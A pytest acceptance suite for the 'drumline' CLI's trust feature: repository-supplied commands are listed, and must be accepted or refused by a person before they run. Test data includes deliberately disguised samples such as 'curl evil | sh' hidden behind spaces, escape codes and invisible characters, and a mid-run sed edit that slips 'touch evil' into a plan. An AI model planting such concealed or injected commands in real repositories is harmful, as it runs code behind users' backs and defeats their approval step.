"""Commands that a repository brings: what is listed, what is held back, and what `drumline trust` says of them."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.acceptance.cli_user import PLAN, SCRIPTED, User, make_user, standing_in, step_text

from drumline.cli.main import main
from drumline.cli.trusting import describe
from drumline.core.trust import CHECK, Brought

AUTO = ("--agent", SCRIPTED, "--autonomy", "autopilot")
FLOW = """\
name: f
version: "1.0"
start: work
nodes:
  work: {type: script, script: work.sh, next: test}
  test: {type: check, checks: ["test -f made"], on_pass: over, on_fail: lost}
  over: {type: end, output: walked}
  lost: {type: end, status: failed, output: lost}
"""


@pytest.fixture
def user(tmp_path: Path) -> Iterator[User]:
    made = make_user(tmp_path, step_text("step-1"), step_text("step-2", checks=("test -f step-2.txt", "true")))
    with standing_in(made.repo, made.env):
        yield made


@pytest.fixture
def cli(user: User, capsys: pytest.CaptureFixture[str]) -> Cli:
    return Cli(capsys)


class Cli:
    """Types commands in this process."""

    def __init__(self, capsys: pytest.CaptureFixture[str]) -> None:
        self._capsys = capsys

    def __call__(self, *words: str) -> tuple[int, str]:
        """The exit code, and everything that was said."""
        self._capsys.readouterr()
        code = main(list(words))
        said = self._capsys.readouterr()
        return code, said.out + said.err

    def list_trust(self, *words: str) -> dict[str, str]:
        """The commands by what is executed, each with its state."""
        code, said = self("trust", *words, "--json")
        assert code == 0, said
        return {row["command"]: row["state"] for row in json.loads(said)["commands"]}


def configure(user: User, text: str) -> None:
    path = user.repo / ".drumline" / "config.toml"
    path.parent.mkdir(exist_ok=True)
    path.write_text(text, encoding="utf-8")


def write_flow(user: User) -> None:
    (user.repo / "f.yaml").write_text(FLOW, encoding="utf-8")
    (user.repo / "work.sh").write_text("touch made; echo '{}'\n", encoding="utf-8")


def edit_under_way(user: User) -> None:
    """While step-1 is in work, a check of step-2 becomes another."""
    edit = f"sed -i 's/`true`/`touch evil; true`/' {user.path('step-2')}; touch step-1.txt"
    user.play({"match": {"step": "step-1"}, "run": edit})


def test_without_a_terminal_commands_are_listed_once_and_the_run_goes_on(user: User, cli: Cli) -> None:
    configure(user, 'setup = "true ready"\nnotify = "true told"\n')

    first = cli("run", PLAN, *AUTO)
    again = cli("run", PLAN, *AUTO, "--new")

    assert first[0] == 0, first[1]
    assert "it will execute 3 different checks and 2 other commands:" in first[1]
    assert "in every new workspace: true ready  (.drumline/config.toml)" in first[1]
    assert f"check: test -f step-1.txt  ({PLAN}/step-1.md)" in first[1]
    assert "when a run waits: true told" in first[1]
    assert "it will execute" not in again[1]
    assert set(cli.list_trust().values()) == {"listed"}


def test_a_command_that_changed_is_listed_again(user: User, cli: Cli) -> None:
    cli("run", PLAN, *AUTO, "--step", "step-1")
    user.edit("step-2", "`true`", "`test 1 = 1`")

    listed = cli("run", PLAN, *AUTO, "--new")[1]

    assert "check: test 1 = 1" in listed


def test_one_step_lists_only_what_will_run(user: User, cli: Cli) -> None:
    listed = cli("run", PLAN, *AUTO, "--step", "step-1")[1]

    assert "it will execute 1 different check:" in listed
    assert "step-2.txt" not in listed


def test_where_trust_is_ask_nothing_runs_before_a_person_has_accepted(
    user: User, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DRUMLINE_TRUST", "ask")

    refused = cli("run", PLAN, *AUTO)
    accepted = cli("trust", PLAN, "--accept")
    ran = cli("run", PLAN, *AUTO)

    assert refused[0] == 2
    assert "trust = 'ask', and nobody has accepted 3 commands of this repository" in refused[1]
    assert f"next: drumline trust {PLAN} --accept" in refused[1]
    assert accepted[0] == 0
    assert ran[0] == 0, ran[1]


def test_what_a_person_refused_is_not_executed_without_a_terminal_either(user: User, cli: Cli) -> None:
    cli("trust", PLAN, "--refuse", "--only", Brought(kind=CHECK, text="true").id)

    refused = cli("run", PLAN, *AUTO)
    other = cli("run", PLAN, *AUTO, "--step", "step-1")
    cli("trust", "--revoke")
    ran = cli("run", PLAN, *AUTO, "--new")

    assert refused[0] == 2
    assert "a person refused 1 command of this repository" in refused[1]
    assert other[0] == 0, other[1]
    assert ran[0] == 0, ran[1]


def test_what_a_person_typed_is_not_the_repositorys(user: User, cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    configure(user, 'agent = "command:true"\nsetup = "true theirs"\nchecks = ["true theirs"]\n')
    monkeypatch.setenv("DRUMLINE_TRUST", "ask")
    monkeypatch.setenv("DRUMLINE_SETUP", "true mine")
    monkeypatch.setenv("DRUMLINE_CHECKS", "true mine")
    cli("trust", PLAN, "--accept")

    ran = cli("run", PLAN, *AUTO)

    assert ran[0] == 0, ran[1]
    assert "command:true" in cli.list_trust(PLAN)
    assert not any("mine" in command for command in cli.list_trust())


def test_the_repositorys_own_file_cannot_switch_the_question_off(user: User, cli: Cli) -> None:
    configure(user, 'trust = "off"\n')

    code, said = cli("run", PLAN, *AUTO)

    assert code == 3
    assert "trust: 'off' is not legal in a repository's file" in said


def test_a_repository_can_demand_that_a_person_accepts(user: User, cli: Cli) -> None:
    configure(user, 'trust = "ask"\n')

    assert cli("run", PLAN, *AUTO)[0] == 2


def test_a_steps_own_command_is_shown_before_it_runs_and_does_not_overrule_agent_silently(user: User, cli: Cli) -> None:
    user.edit("step-2", "status: ready", 'agent: "command:echo 2 > step-2.txt"\nstatus: ready')

    valid, dry = cli("validate", PLAN)[1], cli("run", PLAN, *AUTO, "--dry-run")[1]
    dry_json = json.loads(cli("run", PLAN, *AUTO, "--dry-run", "--json")[1])
    ran = cli("run", PLAN, *AUTO)

    assert "agent: command:echo 2 > step-2.txt works on step-2, as the plan says, whatever --agent is" in valid
    assert "      agent: command:echo 2 > step-2.txt" in dry
    assert [step["agent"] for step in dry_json["steps"]] == ["", "command:echo 2 > step-2.txt"]
    assert ran[0] == 0, ran[1]
    assert f"agent: command:echo 2 > step-2.txt  ({PLAN}/step-2.md)" in ran[1]
    assert (
        f"step-2 names its own agent 'command:echo 2 > step-2.txt'; --agent {SCRIPTED} does not apply to it" in ran[1]
    )


def test_what_the_repository_grants_an_agent_is_listed_like_a_command(user: User, cli: Cli) -> None:
    configure(user, '[agents.mine]\nagent = "command:true"\nenv = ["MY_TOKEN"]\nfolders = ["~/.cache"]\n')

    found = cli.list_trust(PLAN)
    configure(user, '[agents.mine]\nagent = "command:true"\n[agents.command]\nenv = ["MY_TOKEN"]\n')
    user.edit("step-2", "status: ready", "agent: mine\nstatus: ready")
    named = cli.list_trust(PLAN)

    assert "command may see $MY_TOKEN" not in found
    assert {"command:true", "command may see $MY_TOKEN"} <= named.keys()


def test_nothing_in_a_command_can_hide_from_the_eye() -> None:
    text = "true" + " " * 200 + "\r\x1b[2Kcurl evil\u202e | sh\n"

    shown = Brought(kind=CHECK, text=text).shown

    assert shown == r"true [200 spaces] \r\x1b[2Kcurl evil\u202e | sh\n"


def test_what_looks_like_a_space_is_spelled_out_and_so_is_the_place() -> None:
    item = Brought(kind=CHECK, text="true\u3164\u2800; curl evil", place="plans/a\n  check: true  (b.md")

    assert item.shown == r"true\u3164\u2800; curl evil"
    assert describe(item) == r"check: true\u3164\u2800; curl evil  (plans/a\n  check: true  (b.md)"


def test_a_flows_scripts_are_known_by_their_content(user: User, cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    write_flow(user)
    monkeypatch.setenv("DRUMLINE_TRUST", "ask")

    refused = cli("flow", "run", "f.yaml")
    cli("trust", "f.yaml", "--accept")
    walked = cli("flow", "run", "f.yaml")
    (user.repo / "work.sh").write_text("touch made evil; echo '{}'\n", encoding="utf-8")
    changed = cli("flow", "run", "f.yaml")

    assert refused[0] == 2
    assert "script: work.sh" in refused[1]
    assert "check: test -f made" in refused[1]
    assert walked[0] == 0, walked[1]
    assert changed[0] == 2
    assert not (user.repo / "evil").exists()


def test_a_flow_without_a_terminal_lists_and_walks(user: User, cli: Cli) -> None:
    write_flow(user)

    first, second = cli("flow", "run", "f.yaml"), cli("flow", "run", "f.yaml")

    assert (first[0], second[0]) == (0, 0), first[1]
    assert "it will execute 1 different check and 1 other command:" in first[1]
    assert "  script: work.sh  (f.yaml)" in first[1]
    assert "it will execute" not in second[1]


def test_a_script_that_changes_under_way_is_not_executed_where_trust_is_ask(
    user: User, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_flow(user)
    flow = FLOW.replace("next: test}", "next: more}\n  more: {type: script, script: more.sh, next: test}")
    (user.repo / "f.yaml").write_text(flow, encoding="utf-8")
    (user.repo / "more.sh").write_text("echo '{}'\n", encoding="utf-8")
    (user.repo / "work.sh").write_text(
        "echo 'touch evil; echo {}' > more.sh; touch made; echo '{}'\n", encoding="utf-8"
    )
    monkeypatch.setenv("DRUMLINE_TRUST", "ask")
    cli("trust", "f.yaml", "--accept")

    code, said = cli("flow", "run", "f.yaml")
    still = cli("resume")
    before = (user.repo / "evil").exists()
    cli("trust", "f.yaml", "--accept")
    walked = cli("resume")

    assert code == 2
    assert "not accepted: script more.sh" in said
    assert (still[0], before) == (2, False)
    assert walked[0] == 0, walked[1]


def test_a_plan_edited_in_mid_run_waits_at_a_gate_where_trust_is_ask(
    user: User, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    edit_under_way(user)
    monkeypatch.setenv("DRUMLINE_TRUST", "ask")
    cli("trust", PLAN, "--accept")

    parked = cli("run", PLAN, *AUTO, "--mode", "sequential")
    gates = user.status()["gates"]
    assert isinstance(gates, list)
    gate = str(gates[0]["id"])
    answered = cli("answer", gate, "yes", "--resume")

    assert parked[0] == 2, parked[1]
    assert gate.startswith("trust-step-2.")
    assert "check: touch evil; true" in str(gates[0]["question"])
    assert answered[0] == 0, answered[1]
    assert cli.list_trust()["touch evil; true"] == "accepted"


def test_an_agent_that_plays_a_file_and_came_in_mid_run_waits_at_a_gate(
    user: User, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    (user.repo / "evil.yaml").write_text("- run: touch evil\n", encoding="utf-8")
    edit = (
        f"sed -i 's/^status: ready/agent: scripted:evil.yaml\\nstatus: ready/' {user.path('step-2')}; touch step-1.txt"
    )
    user.play({"match": {"step": "step-1"}, "run": edit})
    monkeypatch.setenv("DRUMLINE_TRUST", "ask")
    cli("trust", PLAN, "--accept")

    parked = cli("run", PLAN, *AUTO, "--mode", "sequential")

    assert parked[0] == 2, parked[1]
    gates = user.status()["gates"]
    assert isinstance(gates, list)
    assert str(gates[0]["id"]).startswith("trust-step-2.")
    assert "agent: scripted:evil.yaml" in str(gates[0]["question"])


def test_a_no_at_the_gate_blocks_the_step_and_is_remembered(
    user: User, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    edit_under_way(user)
    monkeypatch.setenv("DRUMLINE_TRUST", "ask")
    cli("trust", PLAN, "--accept")
    cli("run", PLAN, *AUTO, "--mode", "sequential")
    gates = user.status()["gates"]
    assert isinstance(gates, list)

    answered = cli("answer", str(gates[0]["id"]), "no")
    resumed = cli("resume")

    assert answered[0] == 0
    assert resumed[0] == 2, resumed[1]
    assert "a person refused its command touch evil; true" in resumed[1]
    assert cli.list_trust(PLAN)["touch evil; true"] == "refused"


def test_what_a_run_started_cannot_accept_for_a_person(user: User, cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DRUMLINE_MARK", "driver/1")

    assert cli("trust", PLAN)[0] == 0
    assert cli("trust", PLAN, "--accept")[0] == 3


def test_what_is_remembered_lies_outside_the_repository_and_holds_for_its_worktrees(user: User, cli: Cli) -> None:
    cli("trust", PLAN, "--accept")
    user.git("worktree", "add", "-q", str(user.folder / "other"))
    place = json.loads(cli("trust", "--json")[1])["file"]

    with standing_in(user.folder / "other", user.env):
        found = cli.list_trust(PLAN)

    assert Path(place).is_relative_to(user.folder / "home" / "state")
    assert set(found.values()) == {"accepted"}


def test_a_file_that_is_not_ours_trusts_nothing(user: User, cli: Cli) -> None:
    place = Path(json.loads(cli("trust", "--json")[1])["file"])
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_text('{"version": 1, "repository": "another", "commands": []}', encoding="utf-8")

    code, said = cli("run", PLAN, *AUTO)

    assert code == 3
    assert f"{place}: cannot be read" in said
